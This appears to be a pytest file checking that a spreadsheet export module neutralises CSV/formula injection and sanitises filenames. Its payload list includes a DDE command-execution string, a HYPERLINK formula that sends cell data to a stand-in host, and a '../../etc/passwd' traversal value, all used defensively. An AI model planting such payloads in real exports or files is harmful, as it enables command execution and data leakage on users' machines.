import csv
import io

import pytest
from openpyxl import load_workbook

from accounts.spreadsheets import csv_bytes, neutralise, safe_filename, xlsx_bytes

PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\tTAB",
    "\rCR",
    '=HYPERLINK("http://x.invalid/?"&A1,"x")',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_that_could_run_as_formulas_are_neutralised(payload):
    rows = list(csv.reader(io.StringIO(csv_bytes(["name"], [[payload]]).decode("utf-8-sig"))))
    assert rows[1][0] == "'" + payload


def test_numbers_stay_numbers_in_csv():
    assert neutralise(-5) == -5
    assert neutralise(2.5) == 2.5
    assert neutralise(None) == ""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_text_cells_are_strings_never_formulas(payload):
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["name", "score"], [[payload, -3]]))).active
    text, number = sheet["A2"], sheet["B2"]
    # XML turns a bare CR into LF; the text is the same and stays inert.
    assert text.data_type == "s" and text.value == payload.replace("\r", "\n")
    assert number.data_type == "n" and number.value == -3


def test_filenames_are_built_from_safe_characters():
    assert safe_filename("Rank list", "../../etc/passwd", extension="csv") == "rank-list-etc-passwd.csv"
